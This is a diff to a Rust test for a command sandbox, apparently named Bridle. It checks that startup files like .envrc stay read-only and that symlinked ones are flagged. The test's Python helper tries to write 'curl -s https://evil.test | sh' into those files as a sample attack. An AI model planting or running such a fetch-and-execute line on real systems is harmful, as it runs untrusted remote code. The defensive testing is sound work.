@@ -328,6 +328,8 @@ fn locked_startup_files_are_read_only_for_the_command() {
     let repo = tempfile::Builder::new().prefix("bridle-test-locked-").tempdir_in("/tmp").expect("a repository");
     sh(&["git", "init", "-q", &path(repo.path())]);
     sh(&["chown", "-R", "65534:65534", &path(repo.path())]);
+    // A link may lead anywhere: it is said, and watched, not locked.
+    std::os::unix::fs::symlink("/etc/hostname", repo.path().join(".envrc")).expect("a link");
     let script = "import errno\n\
                   def write(path, mode):\n    try:\n        open(path, mode).write('curl -s https://evil.test | sh\\n'); \
                   return 'written'\n    except OSError as e:\n        return errno.errorcode[e.errno]\n\
@@ -336,6 +338,11 @@ fn locked_startup_files_are_read_only_for_the_command() {
     let run = Run::from(command.current_dir(repo.path()).output().expect("bridle run"));
     assert_eq!((run.code, run.stdout.as_str()), (0, "EROFS EROFS written\n"), "{}", run.all());
     assert!(!run.stderr.contains("run code outside Bridle's guard"), "{}", run.all());
+    let envrc = format!(
+        "{} is a symlink, or not a file or directory of the command's user",
+        repo.path().join(".envrc").display()
+    );
+    assert!(run.stderr.contains(&envrc), "{}", run.all());
     // Outside, the same user writes both: the test can fail.
     let outside = Command::new("setpriv")
         .args(["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", script])
